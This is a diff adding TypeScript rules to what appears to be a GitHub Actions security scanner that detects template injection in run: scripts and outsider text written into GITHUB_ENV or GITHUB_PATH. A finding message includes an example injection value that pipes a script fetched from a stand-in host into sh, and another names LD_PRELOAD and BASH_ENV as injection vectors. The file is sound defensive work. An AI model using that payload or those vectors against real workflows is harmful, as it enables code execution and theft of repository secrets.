@@ -1,0 +1,132 @@
+import type { Severity } from '../../signal/schema.js';
+import { makeFinding } from '../finding.js';
+import { lineOf } from '../util.js';
+import type { Control } from './contexts.js';
+import { controlOf } from './contexts.js';
+import { contextNames, findExpressions, parseExpression, pathText, valueContexts } from './expression.js';
+import type { RuleContext } from './facts.js';
+import { envOf, scriptsOf, shellVariablesIn } from './facts.js';
+
+/**
+ * Template injection (gha-template-injection) and environment-file injection (gha-github-env).
+ *
+ * A `${{ }}` in a `run:` script or a github-script `script:` is pasted into the code before it
+ * runs. The expression is parsed, and every context that can become part of its value is checked
+ * (`a || ''` is still `a`, `format('{0}', a)` and `toJSON(github.event)` carry `a`); conditions
+ * and comparisons that only decide a value are not. Passing the value through `env:` and reading
+ * "$VAR" is the safe form and is not reported, unless the script writes that variable into
+ * GITHUB_ENV or GITHUB_PATH, which later steps trust.
+ */
+
+interface Tainted {
+  readonly expression: string;
+  readonly contexts: string[];
+  readonly control: Control;
+}
+
+/** The outsider- or maintainer-written contexts an expression body can expand to. */
+export function taintOf(body: string): Tainted | null {
+  const parsed = parseExpression(body);
+  const candidates = parsed !== null ? valueContexts(parsed) : contextNames(body).map((name) => ({ path: name.split('.'), serialized: /tojson|join\(/i.test(body) }));
+  const outsider = new Set<string>();
+  const maintainer = new Set<string>();
+  for (const { path, serialized } of candidates) {
+    const control = controlOf(path, serialized);
+    if (control === 'outsider') outsider.add(pathText(path));
+    else if (control === 'maintainer') maintainer.add(pathText(path));
+  }
+  if (outsider.size > 0) return { expression: body, contexts: [...outsider], control: 'outsider' };
+  if (maintainer.size > 0) return { expression: body, contexts: [...maintainer], control: 'maintainer' };
+  return null;
+}
+
+function injectionSeverity(ctx: RuleContext, control: Control): Severity {
+  if (control === 'maintainer') return 'low';
+  if (ctx.privileged.length > 0) return 'critical';
+  if (ctx.workflow.kind === 'action' || ctx.outsider) return 'high';
+  // push, schedule, workflow_dispatch: commit messages of merged PRs still carry outsiders' text.
+  return 'medium';
+}
+
+function triggerText(ctx: RuleContext): string {
+  if (ctx.workflow.kind === 'action') return 'this composite action (its callers decide the event)';
+  return ctx.privileged.length > 0 ? `${ctx.privileged.join(', ')} (with the repository's secrets and a write token)` : ctx.triggers.join(', ') || 'its triggers';
+}
+
+export function templateInjectionRules(ctx: RuleContext): void {
+  for (const job of ctx.workflow.jobs) {
+    for (const step of job.steps) {
+      for (const script of scriptsOf(step)) {
+        const seen = new Set<string>();
+        for (const span of findExpressions(script)) {
+          const taint = taintOf(span.body);
+          if (taint === null || seen.has(span.body)) continue;
+          seen.add(span.body);
+          const where = `Job ${job.id}${step.name ? `, step "${step.name}"` : ''}`;
+          const sink = step.run === script ? 'a run: script' : 'an actions/github-script script';
+          ctx.findings.push(
+            makeFinding({
+              id: 'gha-template-injection',
+              severity: injectionSeverity(ctx, taint.control),
+              title: `\${{ ${span.body} }} is expanded into ${sink}`,
+              detail:
+                `${where} pastes ${taint.contexts.join(', ')} into ${sink} before it runs, on ${triggerText(ctx)}. ` +
+                (taint.control === 'outsider'
+                  ? 'Anyone who opens an issue or PR, comments, or names a branch chooses that text: a value like `a"; curl -sSf https://evil.example | sh; #` becomes code. '
+                  : 'Whoever starts the workflow chooses that input, and callers may pass outsiders\' text into it. ') +
+                'Fix: move the expression into env: (`env: VALUE: ${{ … }}`) and read "$VALUE" (or process.env.VALUE) in the script.',
+              path: ctx.path,
+              line: lineOf(ctx.content, span.body),
+              subject: `${job.id}:${span.body}`,
+            }),
+          );
+        }
+      }
+    }
+  }
+}
+
+const ENV_FILE = /\$\{?(GITHUB_ENV|GITHUB_PATH)\b/;
+
+/** A run: script that writes outsider-written text (through env: or directly) into GITHUB_ENV or GITHUB_PATH. */
+export function githubEnvRules(ctx: RuleContext): void {
+  for (const job of ctx.workflow.jobs) {
+    for (const step of job.steps) {
+      if (!step.run || !ENV_FILE.test(step.run)) continue;
+      const env = envOf(ctx.workflow, job, step);
+      for (const line of step.run.split('\n')) {
+        const target = ENV_FILE.exec(line);
+        if (target === null) continue;
+        const sources: string[] = [];
+        for (const name of shellVariablesIn(line)) {
+          const value = env.get(name);
+          if (value === undefined) continue;
+          for (const span of findExpressions(value)) {
+            const taint = taintOf(span.body);
+            if (taint?.control === 'outsider') sources.push(`$${name} (${taint.contexts.join(', ')})`);
+          }
+        }
+        for (const span of findExpressions(line)) {
+          const taint = taintOf(span.body);
+          if (taint?.control === 'outsider') sources.push(taint.contexts.join(', '));
+        }
+        if (sources.length === 0) continue;
+        const file = target[1]!;
+        ctx.findings.push(
+          makeFinding({
+            id: 'gha-github-env',
+            severity: ctx.privileged.length > 0 ? 'critical' : 'high',
+            title: `Outsider-written text is written into ${file}`,
+            detail:
+              `Job ${job.id} writes ${sources.join(', ')} into ${file}. A value with a newline adds its own variables ` +
+              `(LD_PRELOAD, NODE_OPTIONS, BASH_ENV) or PATH entries, and every later step runs with them${ctx.privileged.length > 0 ? ` on ${ctx.privileged.join(', ')}, with the repository's secrets` : ''}. ` +
+              'Fix: do not put untrusted text into environment files; pass it to the steps that need it through env: or step outputs, validated first.',
+            path: ctx.path,
+            line: lineOf(ctx.content, line.trim()),
+            subject: `${job.id}:${file}:${line.trim()}`,
+          }),
+        );
+      }
+    }
+  }
+}
